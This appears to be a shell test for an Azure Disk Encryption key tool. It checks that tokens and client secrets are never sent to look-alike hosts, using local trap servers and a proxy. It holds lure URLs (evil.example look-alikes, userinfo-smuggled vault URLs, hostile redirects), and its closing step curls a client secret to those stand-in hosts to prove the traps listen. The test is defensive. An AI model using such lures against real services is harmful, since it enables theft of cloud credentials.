#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# Every way in which a token or a client secret could be lured to a stranger, for every way to sign in, under the names of the public
# cloud. A proxy leads each stranger's name to a trap that answers like a vault and a sign-in service and keeps what it hears:
# nothing. At the end the test calls the traps itself, by the same names and the same proxy, and they hear that.
. "${abs_top_srcdir:?run by make check}/tests/lib.sh" || exit 99
need mkntfs node openssl jq curl timeout "$MKADE"

disk=$work/os.vhd
ade_disk "$disk"
mkdir "$work/out"
tenant=11111111-2222-3333-4444-555555555555
client=aaaaaaaa-0000-0000-0000-000000000001
secret='very~secret.value1'
# look-alikes of a vault, of the resource itself, of the sign-in service, of a managed HSM
strangers=(contoso-kv.vault.azure.net.evil.example contoso-kvvault.azure.net a.contoso-kv.vault.azure.net vault.azure.net
	contoso-kv.vault.azure.com login.microsoftonline.com.evil.example contoso.managedhsm.azure.net.evil.example)
evil=${strangers[0]}
ade() { echo "{\"ade\": {\"file\": \"$bek_guid.BEK\", \"machine\": \"VM01\", \"volume\": \"C:\\\\\", \"kek\": \"kek\"}$1}"; }
kek_at() { ade ", \"tags\": {\"DiskEncryptionKeyEncryptionKeyURL\": \"$1\"}"; }
cat >"$work/config.json" <<END
{ "tenants": [{"id": "$tenant"}],
  "clients": [{"id": "$client", "secret": "$secret", "certificates": [{"make": "app"}], "federated": [{"make": "pod"}]}],
  "identities": [{"name": "vm", "kind": "system"}], "managed": {"imds": {}, "appService": {}},
  "device": {"interval": 1, "answer": "approve"},
  "authority": {"cloud": "public"},
  "traps": [{"name": "evil", "hosts": $(printf '%s\n' "${strangers[@]}" | jq -R . | jq -sc .)}],
  "vaults": [{"name": "contoso-kv", "cloud": "public", "publicUrl": "azure", "pageSize": 2, "keys": [{"name": "kek", "versions": [{"bits": 2048}]}],
    "secrets": [{"name": "by-tag", "versions": [$(ade "")]},
      {"name": "kek-alike", "versions": [$(kek_at "https://$evil/keys/kek/1")]},
      {"name": "kek-glued", "versions": [$(kek_at "https://contoso-kvvault.azure.net/keys/kek/1")]},
      {"name": "kek-below", "versions": [$(kek_at "https://a.contoso-kv.vault.azure.net/keys/kek/1")]},
      {"name": "kek-user", "versions": [$(kek_at "https://contoso-kv.vault.azure.net@$evil/keys/kek/1")]},
      {"name": "kek-http", "versions": [$(kek_at "http://contoso-kv.vault.azure.net/keys/kek/1")]}]}]
}
END
ok "the loopback cloud is up" start_vault "$work/config.json" || done_testing
unset AZURE_AUTHORITY_HOST AZURE_TENANT_ID AZURE_CLIENT_ID AZURE_CLIENT_SECRET
curl -sS --fail --cacert "$VAULT_CA_FILE" -d client_id=$client -d grant_type=client_credentials -d "client_secret=$secret" \
	--data-urlencode scope=https://vault.azure.net/.default "$VAULT_AUTHORITY/$tenant/oauth2/v2.0/token" | jq -r .access_token >"$work/token"

trap_port=${VAULT_TRAP_evil##*:}
trap_http=127.0.0.1:${VAULT_TRAP_HTTP_evil##*:}
mkfifo "$work/proxy"
node "$abs_top_srcdir/tests/tools/connect-proxy.mjs" "$work/proxy" "$work/proxy.log" login.microsoftonline.com="$VAULT_AUTHORITY_PORT" \
	contoso-kv.vault.azure.net="$(jq -r '.vaults["contoso-kv"].port' <<<"$VAULT_READY")" "${strangers[@]/%/=$trap_port}" </dev/null >/dev/null 2>&1 &
servers+=($!)
read -rt 20 proxy <"$work/proxy"
ok "the proxy is up" test -n "${proxy:-}" || done_testing
# whoever asks in plain http comes to a trap whatever the name
export https_proxy=http://127.0.0.1:$proxy http_proxy=http://$trap_http no_proxy=127.0.0.1

principal="AZURE_TENANT_ID=$tenant AZURE_CLIENT_ID=$client"
declare -A with=(
	[secret]="$principal AZURE_CLIENT_SECRET=$secret" [certificate]="$principal AZURE_CLIENT_CERTIFICATE_PATH=$VAULT_CERT_app"
	[workload]="$principal AZURE_FEDERATED_TOKEN_FILE=$VAULT_FEDERATED_pod" [imds]="AZURE_POD_IDENTITY_AUTHORITY_HOST=$VAULT_IMDS"
	[appservice]="IDENTITY_ENDPOINT=$VAULT_APPSERVICE_ENDPOINT IDENTITY_HEADER=$VAULT_APPSERVICE_HEADER" [device]="X=x" [token]="X=x"
)
declare -A as=([secret]=env [certificate]=env [workload]=workload [imds]=managed [appservice]=managed [device]=device [token]="token:file:$work/token")
ways=(secret certificate workload imds appservice device token)
cases=0
challenge() { control /challenge "{\"vault\":\"contoso-kv\",\"challenge\":$1}" >/dev/null; }
fault() { control /fault "$1" >/dev/null; }
clear() { curl -sS -X DELETE -H "X-Control-Key: $VAULT_CONTROL_KEY" "$VAULT_CONTROL_URL/$1" >/dev/null; }
key()
{
	local variables from=(--vault contoso-kv)
	[[ " $* " != *" --vault "* && " $* " != *" https://"* && " $* " != *" http://"* && " $* " != *" --azure-json "* ]] || from=()
	read -ra variables <<<"${with[$way]}"
	timeout 60 env "${variables[@]}" "${adefuse_command[@]}" key -vv "${from[@]}" --ca-file "$VAULT_CA_FILE" --credential "${as[$way]}" --timeout 5 \
		--force --out "$work/out" "$@" "$disk" </dev/null
}
# lured CODE NAME [OPTION...]: that exit code, and the traps heard nothing
lured()
{
	local seen
	fails "$1" "$way: $2" key "${@:3}"
	printf '%s\n' "$out" >>"$work/all-output"
	seen=$(control /traps | jq -c '.total | [.connections, .bytes, .requests]')
	is "$seen" '[0,0,0]' "  the trap heard nothing"
	cases=$((cases + 1))
}
redirect() { echo "{\"match\":$1,\"action\":{\"type\":\"redirect\",\"status\":$2,\"location\":\"$3\"}}"; }
for way in "${ways[@]}"; do
	# ---- the challenge
	for resource in https://management.azure.com "https://$evil" https://managedhsm.azure.net; do
		challenge "{\"resource\":\"$resource\"}"
		lured 5 "a challenge for $resource"
	done
	challenge "{\"authorization\":\"https://login.microsoftonline.com.evil.example/{tenant}\"}"
	lured 0 "a challenge whose sign-in service is a stranger"
	challenge "{\"authorization\":\"http://login.microsoftonline.com/{tenant}\"}"
	lured 8 "a challenge whose sign-in service is in plain http"
	challenge '{"form":"resource"}'
	# ---- tags, links and redirects of a vault that has been given a token
	for name in kek-alike kek-glued kek-below; do
		lured 6 "the secret's tag names a stranger: $name" --vault contoso-kv --secret $name
	done
	for to in "https://$evil/secrets?x" "http://contoso-kv.vault.azure.net/secrets?x"; do
		fault "{\"match\":{\"endpoint\":\"vault\",\"auth\":\"present\",\"path\":\"/secrets\\\\?\"},\"action\":{\"type\":\"nextlink\",\"to\":\"$to\"}}"
		lured 8 "the next page at $to"
		clear fault
	done
	for to in "https://$evil/secrets/x" "http://$trap_http/secrets/x"; do
		fault "$(redirect '{"endpoint":"vault","auth":"present"}' 307 "$to")"
		lured 8 "the vault redirects to $to"
		clear fault
		[ $way != token ] || continue
		for endpoint in token imds appservice; do
			fault "$(redirect "{\"endpoint\":\"$endpoint\"}" 308 "$to")"
		done
		lured 5 "whoever gives tokens redirects to $to"
		clear fault
	done
done

# ---- what is refused before anybody signs in: a client secret and a token lie ready
for way in secret token; do
	for host in "${strangers[@]}"; do
		lured 2 "the vault https://$host" --vault "https://$host"
	done
	lured 2 "a secret at a stranger" --secret "https://$evil/secrets/x"
	lured 2 "a vault in plain http" --vault http://contoso-kv.vault.azure.net
	lured 2 "a secret in plain http" --secret http://contoso-kv.vault.azure.net/secrets/by-tag
	lured 2 "a page of the portal around a stranger" --secret "https://portal.azure.com/#view/x/id/https%3A%2F%2F$evil%2Fsecrets%2Fx"
	lured 2 "a stranger's key" --secret https://contoso-kv.vault.azure.net/secrets/by-tag --kek "https://$evil/keys/kek"
	printf '{"encryptionSettingsCollection":{"encryptionSettings":[{"diskEncryptionKey":{"secretUrl":"https://%s/secrets/x"}}]}}' "$evil" >"$work/disk.json"
	lured 2 "the disk's settings name a stranger" --azure-json "$work/disk.json"
	for name in kek-user kek-http; do
		lured 4 "the secret's tag names what is no https URL of a key: $name" --vault contoso-kv --secret $name
	done
	for to in "https://contoso-kv.vault.azure.net@$evil/secrets" "//$evil/secrets" "https://contoso-kv.vault.azure.net:444/secrets?x"; do
		fault "{\"match\":{\"endpoint\":\"vault\",\"auth\":\"present\",\"path\":\"/secrets\\\\?\"},\"action\":{\"type\":\"nextlink\",\"to\":\"$to\"}}"
		lured 8 "the next page at $to"
		clear fault
	done
	fault "$(redirect '{"endpoint":"vault","auth":"absent"}' 302 "https://$evil/secrets/x")"
	lured 8 "before the challenge the vault redirects to a stranger"
	clear fault
done
total=$(control /traps | jq -c .total)
is "$total" '{"connections":0,"tlsErrors":0,"requests":0,"bytes":0,"authorization":0,"bodies":0,"leaks":0}' "$cases lures: the traps saw nothing"

# ---- the traps are not deaf: called by each name, by way of the proxy, with the secret
for host in "${strangers[@]}"; do
	curl -sS -o "$work/tempted" --cacert "$VAULT_CA_FILE" -d "client_secret=$secret" "https://$host/$tenant/oauth2/v2.0/token"
done
curl -sS -o "$work/tempted" "http://contoso-kv.vault.azure.net/secrets"
heard=$(control /traps | jq -c '[.total.requests, .total.leaks > 0]')
is "$heard" "[$((${#strangers[@]} + 1)),true]" "  (they would have: each of them hears the test itself)"
echo "# traps: $cases lures, heard: $(jq -r '"\(.connections) connections, \(.bytes) bytes, \(.leaks) secrets"' <<<"$total"); calls of the test itself heard: $(jq '.[0]' <<<"$heard")"
printf '%s\n' "$secret" "$(cat "$work/token")" "$(cat "$VAULT_FEDERATED_pod")" "$VAULT_APPSERVICE_HEADER" "$(sed -n 3p "$VAULT_CERT_app")" >"$work/needles"
is "$(grep -cF -f "$work/needles" "$work/all-output")" 0 "no secret in $(wc -l <"$work/all-output") lines of output"
done_testing
